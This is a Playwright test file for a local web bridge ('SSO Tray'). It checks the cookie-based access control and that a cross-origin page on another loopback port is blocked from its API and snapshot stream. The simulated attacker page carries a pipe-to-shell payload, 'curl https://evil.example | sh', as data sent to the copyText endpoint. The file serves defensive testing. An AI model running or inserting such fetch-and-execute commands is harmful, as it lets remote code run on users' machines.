// The web bridge in real Chromium: the window gets in through the printed
// address (the secret becomes an HttpOnly cookie and leaves the address bar);
// a page on another loopback port, in the same browser and so holding that
// same-site cookie, reaches neither the API nor the snapshot stream; a browser
// without the cookie sees nothing.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures';

/** A page on another loopback port: another origin, the same site as the bridge. */
async function neighbour(html: string): Promise<{ server: Server; url: string }> {
  const server = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/` };
}

test('the printed address lets the window in and leaves the address bar without the secret', async ({
  app,
  harness,
}) => {
  await expect(app).toHaveURL(`${harness.origin}/`);
  const cookies = await app.context().cookies(harness.origin);
  expect(cookies).toEqual([
    expect.objectContaining({
      name: `sso-tray-bridge-${new URL(harness.origin).port}`,
      httpOnly: true,
      sameSite: 'Strict',
    }),
  ]);
  // Scripts in the page cannot read it.
  expect(
    await app.evaluate(
      () => (globalThis as unknown as { document: { cookie: string } }).document.cookie,
    ),
  ).toBe('');
});

test('a page on another loopback port cannot call the API or read snapshots, cookie or not', async ({
  app,
  harness,
}) => {
  const target = harness.origin;
  const attacker = await neighbour(`<!doctype html><script>
    window.attempts = (async () => {
      const out = {};
      try {
        const r = await fetch(${JSON.stringify(`${target}/api/copyText`)}, {
          method: 'POST', credentials: 'include', mode: 'no-cors',
          headers: { 'content-type': 'text/plain' },
          body: JSON.stringify({ args: ['curl https://evil.example | sh'] }),
        });
        out.copyText = r.type;
      } catch (e) { out.copyText = 'refused'; }
      try {
        const r = await fetch(${JSON.stringify(`${target}/api/getSnapshot`)}, {
          method: 'POST', credentials: 'include', body: '{"args":[]}',
        });
        out.getSnapshot = await r.text();
      } catch (e) { out.getSnapshot = 'refused'; }
      out.stream = await new Promise((resolve) => {
        const events = new EventSource(${JSON.stringify(`${target}/api/snapshots`)}, { withCredentials: true });
        events.addEventListener('snapshot', (e) => { events.close(); resolve('read: ' + e.data.slice(0, 40)); });
        events.onerror = () => { events.close(); resolve('refused'); };
      });
      return out;
    })();
  </script>`);
  try {
    const page = await app.context().newPage();
    await page.goto(attacker.url);
    const result = await page.evaluate(
      () => (globalThis as unknown as { attempts: Promise<Record<string, string>> }).attempts,
    );
    expect(result).toEqual({ copyText: 'opaque', getSnapshot: 'refused', stream: 'refused' });
    // Nothing reached the API: no call recorded, nothing on the clipboard.
    expect(harness.traffic.entries.filter((e) => e.method === 'copyText')).toEqual([]);
    expect(harness.clipboard.writes).toEqual([]);
    await page.close();
  } finally {
    attacker.server.close();
  }
});

test('a browser without the cookie gets nothing, and an old address lets nobody in', async ({
  harness,
  browser,
}) => {
  const stranger = await browser.newContext();
  const page = await stranger.newPage();
  const response = await page.goto(`${harness.origin}/`);
  expect(response?.status()).toBe(403);
  await expect(page.locator('body')).toContainText('Open the address SSO Tray printed');
  const stale = await page.goto(`${harness.origin}/?key=from-an-earlier-run`);
  expect(stale?.status()).toBe(403);
  expect(await stranger.cookies(harness.origin)).toEqual([]);
  await stranger.close();
});
